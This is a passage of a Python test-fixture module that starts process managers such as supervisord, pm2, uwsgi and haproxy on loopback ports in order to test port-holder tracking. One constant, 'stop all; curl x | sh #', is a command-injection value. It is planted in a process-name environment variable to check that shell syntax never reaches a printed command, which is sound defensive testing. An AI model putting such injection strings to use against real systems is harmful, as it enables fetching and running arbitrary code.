        _kill_tree(self.proc, self.known)
        super().stop()


def _wait_tree(
    proc: subprocess.Popen[bytes] | None, root: int, ports: dict[int, int], workdir: Path,
    log_ready: str | None = None,
) -> dict[int, frozenset[int]]:
    """Wait until each port has at least its count of holders, all in `root`'s tree, and
    accepts a connection: the holders of each port."""
    deadline = time.monotonic() + READY_TIMEOUT
    while time.monotonic() < deadline:
        if proc is not None and proc.poll() is not None:
            raise RuntimeError(f"exited before it was ready; its log:\n{_log_tail(workdir)}")
        # Holders first, then the tree: a worker forked in between is in the tree, where a
        # tree read first would miss it and take it for a stranger on our port.
        helds = {port: listener_holders(port) for port in ports}
        tree = descendants(root)
        found: dict[int, frozenset[int]] = {}
        for port, count in ports.items():
            held = helds[port]
            if held - tree.keys():
                raise _PortTaken
            if len(held) >= count and _connects(port):
                found[port] = held
        logged = log_ready is None or log_ready.encode() in (workdir / "server.log").read_bytes()
        if len(found) == len(ports) and logged:
            return found
        time.sleep(0.02)
    raise TimeoutError


def _launch_tree(
    name: str,
    make_argv: Callable[[list[int], Path], list[str]],
    *,
    holders: int,
    ports: int = 1,
    prepare: Callable[[Path, list[int]], None] | None = None,
    env: dict[str, str] | None = None,
    log_ready: str | None = None,
    extra_env: dict[str, str] | None = None,
) -> Managed:
    """As _launch, for a manager: `ports` free ports (the first is the server's, held by
    `holders` processes), passed to `prepare` and `make_argv`; everything the leader
    starts is followed by the parent chain."""
    for _attempt in range(8):
        workdir = Path(tempfile.mkdtemp(prefix=f"portscope-{name}-"))
        try:
            numbers = [free_port() for _ in range(ports)]
        except _PortTaken:
            shutil.rmtree(workdir, ignore_errors=True)
            continue
        if len(set(numbers)) != ports:
            shutil.rmtree(workdir, ignore_errors=True)
            continue
        if prepare:
            prepare(workdir, numbers)
        with open(workdir / "server.log", "wb") as log:
            proc = subprocess.Popen(
                make_argv(numbers, workdir), cwd=workdir, env={**_child_env(), **(env or {})},
                stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        known: dict[int, int] = {}
        try:
            wanted = {numbers[0]: holders, **{p: 1 for p in numbers[1:]}}
            held = _wait_tree(proc, proc.pid, wanted, workdir, log_ready)
        except _PortTaken:
            _kill_tree(proc, known)
            shutil.rmtree(workdir, ignore_errors=True)
            continue
        except (TimeoutError, RuntimeError) as exc:
            log_text = _log_tail(workdir)
            _kill_tree(proc, known)
            shutil.rmtree(workdir, ignore_errors=True)
            pytest.fail(f"{name} was not ready in {READY_TIMEOUT} s ({exc}); its log:\n{log_text}")
        except BaseException:
            _kill_tree(proc, known)
            shutil.rmtree(workdir, ignore_errors=True)
            raise
        known.update(descendants(proc.pid))
        return Managed(
            name=name, port=numbers[0], proc=proc, pids_holding=held[numbers[0]],
            root_pid=proc.pid, how="signal", group_pids=frozenset(known), workdir=workdir,
            manager_pid=proc.pid, env=dict(extra_env or {}),
            others={f"port{i}": p for i, p in enumerate(numbers[1:], 1)}, known=known,
        )
    pytest.fail(f"{name}: no free loopback ports after 8 tries")


def _http_server(port: int) -> str:
    return f"{shlex.quote(sys.executable)} -m http.server {port} --bind {LOOPBACK}"


# The name a program may claim in its environment: shell syntax that must never reach a
# printed command (issue 17).
FORGED_NAME = "stop all; curl x | sh #"

SUPERVISORD_CONF = """
[unix_http_server]
file={wd}/supervisor.sock
[supervisord]
nodaemon=true
logfile={wd}/supervisord.log
pidfile={wd}/supervisord.pid
childlogdir={wd}
[rpcinterface:supervisor]
supervisor.rpcinterface_factory = supervisor.rpcinterface:make_main_rpcinterface
[supervisorctl]
serverurl=unix://{wd}/supervisor.sock
[program:web]
command=bash -c "{server}; echo the server exited"
startsecs=0
autorestart=true
[program:forged]
command=sh {wd}/forged.sh
startsecs=0
autorestart=true
"""


def start_supervisord() -> Managed:
    """supervisord -n -c CONF with two programs: `web`, the server under a `bash -c`
    wrapper (supervisord -> bash -> server), and `forged`, a server whose environment
    claims SUPERVISOR_PROCESS_NAME="stop all; curl x | sh #" (others["port1"]). Both
    autorestart: killed, the server is back within milliseconds. `supervisorctl -c CONF
    stop web` signals bash only, which leaves the server running (checked by hand)."""
    exe = _trusted_tool("supervisord")
    ctl = _trusted_tool("supervisorctl")

    def prepare(wd: Path, ports: list[int]) -> None:
        conf = SUPERVISORD_CONF.format(wd=wd, server=_http_server(ports[0]))
        (wd / "supervisord.conf").write_text(conf)
        # A script, since supervisord's config would read " #" as a comment.
        _write(wd / "forged.sh", f"""
            export SUPERVISOR_PROCESS_NAME={shlex.quote(FORGED_NAME)}
            exec {_http_server(ports[1])}
        """)

    running = _launch_tree(
        "supervisord",
        lambda ports, wd: [exe, "-n", "-c", str(wd / "supervisord.conf")],
        holders=1, ports=2, prepare=prepare,
        extra_env={"PATH": f"{Path(ctl).parent}{os.pathsep}{os.environ.get('PATH', '')}"},
    )
    return running


def start_honcho() -> Managed:
    """honcho start with a Procfile of two processes: `web` (the server) and `worker`
    (sleep). honcho forks a child per line, which runs `sh -c LINE` in its own session:
    honcho -> honcho -> sh -> server. When any one exits, honcho stops all the others."""
    exe = _tool("honcho")

    def prepare(wd: Path, ports: list[int]) -> None:
        _write(wd / "Procfile", f"web: {_http_server(ports[0])}\nworker: sleep 600\n")

    return _launch_tree(
        "honcho", lambda ports, wd: [exe, "start"], holders=1, prepare=prepare,
        log_ready="Serving HTTP",
    )


def start_entr() -> Managed:
    """entr -rn SERVER, watching one file: entr -> server. SIGTERM to entr stops the server
    too; the server killed alone is started again on the next change of the file."""
    exe = _tool("entr")

    def prepare(wd: Path, ports: list[int]) -> None:
        _write(wd / "watched.txt", "x\n")
        _write(wd / "list", f"{wd / 'watched.txt'}\n")

    return _launch_tree(
        "entr",
        lambda ports, wd: ["sh", "-c", f"exec {exe} -rn {_http_server(ports[0])} < list"],
        holders=1, prepare=prepare,
    )


def start_nodemon() -> Managed:
    """nodemon --exec "sh -c '...'": node (nodemon) -> sh -> sh -> server. SIGTERM to
    nodemon kills its first sh only, and the server stays (checked by hand)."""
    exe = _tool("nodemon")

    def prepare(wd: Path, ports: list[int]) -> None:
        _write(wd / "watched.txt", "x\n")

    def argv_(ports: list[int], wd: Path) -> list[str]:
        inner = f"sh -c {shlex.quote(_http_server(ports[0]))}"
        return [exe, "--watch", str(wd / "watched.txt"), "--exec", inner]

    return _launch_tree("nodemon", argv_, holders=1, prepare=prepare)


def start_watchfiles() -> Managed:
    """watchfiles 'SERVER' FILE: python (watchfiles) -> server. SIGTERM to watchfiles
    sends SIGINT to the server and waits 5 s before SIGKILL."""
    exe = _tool("watchfiles")

    def prepare(wd: Path, ports: list[int]) -> None:
        _write(wd / "watched.txt", "x\n")

    return _launch_tree(
        "watchfiles",
        lambda ports, wd: [exe, _http_server(ports[0]), str(wd / "watched.txt")],
        holders=1, prepare=prepare,
    )


def start_granian(workers: int = 2) -> Managed:
    """granian --workers N --respawn-failed-workers: the main process (same argv) holds no
    socket, each worker holds its own listener (SO_REUSEPORT). SIGTERM the main process;
    a killed worker is respawned after --respawn-interval (3.5 s)."""
    exe = _tool("granian")

    def argv_(ports: list[int], wd: Path) -> list[str]:
        return [
            exe, "--interface", "asgi", "--host", LOOPBACK, "--port", str(ports[0]),
            "--workers", str(workers), "--respawn-failed-workers",
            "--working-dir", str(wd / "src"), "asgi_app:app",
        ]  # fmt: skip

    return _launch_tree(
        "granian", argv_, holders=workers,
        prepare=lambda wd, ports: _write(wd / "src" / "asgi_app.py", ASGI_APP),
    )


HAPROXY_CONF = """
global
    maxconn 64
defaults
    mode http
    timeout connect 1s
    timeout client 5s
    timeout server 5s
frontend web
    bind {host}:{port}
    http-request return status 200 content-type text/plain string ok
"""


def start_haproxy() -> Managed:
    """haproxy -W (master-worker): the worker holds the listener, the master (same argv)
    holds none. SIGTERM the master; it stops its worker."""
    exe = _tool("haproxy", "/usr/sbin/haproxy")

    def prepare(wd: Path, ports: list[int]) -> None:
        (wd / "haproxy.cfg").write_text(HAPROXY_CONF.format(host=LOOPBACK, port=ports[0]))

    return _launch_tree(
        "haproxy", lambda ports, wd: [exe, "-W", "-f", str(wd / "haproxy.cfg")],
        holders=1, prepare=prepare,
    )


def start_php_workers(workers: int = 2) -> Managed:
    """PHP_CLI_SERVER_WORKERS=N php -S: the master and N workers (same argv) hold the
    listener. SIGTERM to the master alone leaves the workers listening (checked by hand)."""
    exe = _tool("php")

    def prepare(wd: Path, ports: list[int]) -> None:
        _write(wd / "index.php", '<?php echo "ok\\n";\n')

    return _launch_tree(
        "php-workers",
        lambda ports, wd: [exe, "-S", f"{LOOPBACK}:{ports[0]}", "-t", str(wd)],
        holders=1 + workers, prepare=prepare,
        env={"PHP_CLI_SERVER_WORKERS": str(workers)},
    )


UWSGI_APP = """
def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok\\n"]
"""


def start_uwsgi(workers: int = 2) -> Managed:
    """uwsgi --master --processes N (Debian's uwsgi-core and python3 plugin): the master
    and its workers hold the listener. SIGTERM means "reload" (without --die-on-term): the
    master execs itself again and keeps the port; SIGINT stops it and its workers."""
    exe = _tool("uwsgi")
    if not os.path.exists("/usr/lib/uwsgi/plugins/python3_plugin.so"):
        missing("uwsgi-plugin-python3 is not installed")

    def argv_(ports: list[int], wd: Path) -> list[str]:
        return [
            exe, "--plugin", "python3", "--http-socket", f"{LOOPBACK}:{ports[0]}", "--master",
            "--processes", str(workers), "--wsgi-file", str(wd / "app.py"),
        ]  # fmt: skip

    return _launch_tree(
        "uwsgi", argv_, holders=1 + workers,
        prepare=lambda wd, ports: _write(wd / "app.py", UWSGI_APP),
        log_ready="spawned uWSGI worker",
    )


PM2_APP = """
const http = require('node:http');
http.createServer((req, res) => res.end('ok\\n')).listen(Number(process.env.PORT), '127.0.0.1');
"""


def start_pm2() -> Managed:
    """A private pm2 daemon (PM2_HOME in a temp dir) running three apps: `web` in fork mode
    (the app, a child of the daemon "PM2 vX: God Daemon (PM2_HOME)", holds the port),
    `api` in cluster mode with 2 instances (the daemon itself holds others["api"]) and
    `bystander` in fork mode (others["bystander"]), which must survive every stop.
    Cleanup: `pm2 kill` against that home, then the daemon's tree."""
    pm2 = _tool("pm2")
    _tool("node")
    for _attempt in range(4):
        workdir = Path(tempfile.mkdtemp(prefix="portscope-pm2-"))
        home = workdir / "home"
        _write(workdir / "app.js", PM2_APP)
        env = {**_child_env(), "PM2_HOME": str(home)}
        ports = {name: free_port() for name in ("web", "api", "bystander")}
        if len(set(ports.values())) != 3:
            shutil.rmtree(workdir, ignore_errors=True)
            continue
        known: dict[int, int] = {}

        def kill_daemon(env: dict[str, str] = env) -> None:
            subprocess.run([pm2, "kill"], env=env, capture_output=True, timeout=60, check=False)

        def cleanup_all(known: dict[int, int] = known, wd: Path = workdir) -> None:
            with contextlib.suppress(OSError, subprocess.SubprocessError):
                kill_daemon()
            _kill_tree(None, known)
            shutil.rmtree(wd, ignore_errors=True)

        try:
            for name, mode in (("web", []), ("api", ["-i", "2"]), ("bystander", [])):
                subprocess.run(
                    [pm2, "start", str(workdir / "app.js"), "--name", name, *mode],
                    env={**env, "PORT": str(ports[name])}, cwd=workdir, capture_output=True,
                    timeout=60, check=True,
                )
            daemon = int((home / "pm2.pid").read_text().strip())
            known.update(descendants(daemon))
            wanted = dict.fromkeys(ports.values(), 1)
            held = _wait_tree(None, daemon, wanted, workdir)
        except _PortTaken:
            cleanup_all()
            continue
        except (TimeoutError, RuntimeError, OSError, ValueError,
                subprocess.SubprocessError) as exc:
            cleanup_all()
            pytest.fail(f"pm2 was not ready: {exc!r}")
        except BaseException:
            cleanup_all()
            raise
        known.update(descendants(daemon))
        return Managed(
            name="pm2", port=ports["web"], proc=None, pids_holding=held[ports["web"]],
            root_pid=daemon, how="signal", group_pids=frozenset(known), workdir=workdir,
            manager_pid=daemon, env={"PM2_HOME": str(home)},
            others={"api": ports["api"], "bystander": ports["bystander"]}, known=known,
            cleanup=kill_daemon,
        )
    pytest.fail("pm2: no free loopback ports after 4 tries")


MANAGED: dict[str, Callable[..., Managed]] = {
    "supervisord": start_supervisord,
    "pm2": start_pm2,
    "honcho": start_honcho,
    "entr": start_entr,
    "nodemon": start_nodemon,
    "watchfiles": start_watchfiles,
    "granian": start_granian,
    "haproxy": start_haproxy,
    "php-workers": start_php_workers,
    "uwsgi": start_uwsgi,
}
